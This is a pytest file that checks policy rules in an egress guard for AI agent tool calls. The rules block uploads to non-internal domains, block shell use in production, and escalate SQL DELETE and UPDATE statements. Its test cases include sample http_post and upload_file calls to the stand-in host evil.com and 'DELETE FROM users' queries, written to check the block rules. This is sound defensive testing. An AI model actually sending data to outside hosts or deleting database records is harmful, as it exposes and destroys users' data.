"""The team's rules of the documentation do what they say."""

from __future__ import annotations

from typing import Any

import pytest

from mcp_egress_guard.core import EgressGuard
from mcp_egress_guard.policy.check import validate
from mcp_egress_guard.policy.loader import load_path
from mcp_egress_guard.policy.models import ToolCallRequest

PACK = r"""
pack: my_team
version: "1.0.0"
description: "Custom rules for the Platform team"
rules:
  - id: team-deny-external-upload
    name: "Block External Uploads"
    priority: 20
    decision: DENY
    conditions:
      tool_categories: [upload, http]
      destination_domains:
        - "!*.internal.company.com"
    policy_code: EGRESS_DENY_PUBLIC_UPLOAD
  - id: team-deny-prod-shell
    name: "Block Shell in Production"
    priority: 5
    decision: DENY
    conditions:
      tool_categories: [shell]
      environments: [production]
    policy_code: EGRESS_DENY_SHELL_RISK
  - id: team-escalate-db
    name: "Escalate Database Operations"
    decision: ESCALATE
    priority: 30
    conditions:
      tool_categories: [database]
      content_patterns:
        - 'DELETE\s+FROM'
        - 'UPDATE\s+.*SET'
    policy_code: EGRESS_ESCALATE_REVIEW
"""


@pytest.fixture(scope="module")
def guard(tmp_path_factory: pytest.TempPathFactory) -> EgressGuard:
    folder = tmp_path_factory.mktemp("policies")
    (folder / "my_team_rules.yaml").write_text(PACK)
    assert validate([folder]).all_problems == []
    guard = EgressGuard()
    guard.engine.load_rules(load_path(folder).rules)
    return guard


@pytest.mark.parametrize(
    ("tool", "arguments", "environment", "rule"),
    [
        ("http_post", {"url": "https://evil.com/x", "body": "a"}, "", "team-deny-external-upload"),
        ("http_post", {"url": "https://files.internal.company.com/x", "body": "a"}, "", None),
        ("upload_file", {"destination": "https://evil.com"}, "", "team-deny-external-upload"),
        ("shell_exec", {"command": "ls"}, "production", "team-deny-prod-shell"),
        ("shell_exec", {"command": "ls"}, "development", None),
        ("db_query", {"sql": "delete  from users"}, "", "team-escalate-db"),
        ("execute_sql", {"query": "UPDATE users SET a = 1"}, "", "team-escalate-db"),
        ("postgres_execute", {"query": "DELETE FROM users"}, "", "team-escalate-db"),
        ("db_query", {"sql": "SELECT 1"}, "", None),
        ("write_file", {"path": "a.sql", "content": "DELETE FROM users"}, "", None),
    ],
)
def test_a_call_meets_its_rule(
    guard: EgressGuard, tool: str, arguments: dict[str, Any], environment: str, rule: str | None
) -> None:
    request = ToolCallRequest(tool_name=tool, arguments=arguments, environment=environment)
    primary = guard.evaluate_tool_call(request).primary_rule
    assert (primary.id if primary else None) == rule
